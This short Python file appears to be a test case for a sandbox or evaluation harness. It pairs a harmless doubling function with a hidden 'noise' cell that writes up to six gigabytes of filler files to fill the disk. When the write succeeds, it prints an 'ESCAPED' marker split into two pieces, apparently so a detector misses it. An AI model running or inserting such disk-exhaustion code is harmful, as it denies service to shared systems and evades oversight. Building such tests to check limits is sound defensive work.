"""Fills the folder of the notebook with up to six gigabytes, in files that are each of a modest size."""
# earns: double
# %% double
def double(x):
    return 2 * x
# %% noise
import os

block, written = b"x" * 2**23, 0
os.makedirs("filled/by/attack", exist_ok=True)
for number in range(6 * 128):
    try:
        with open(f"filled/by/attack/{number}", "wb") as file:
            written += file.write(block)
    except OSError:
        pass
if written > 4 * 2**30:
    print("ESC" + f"APED: wrote {written >> 20} MB")
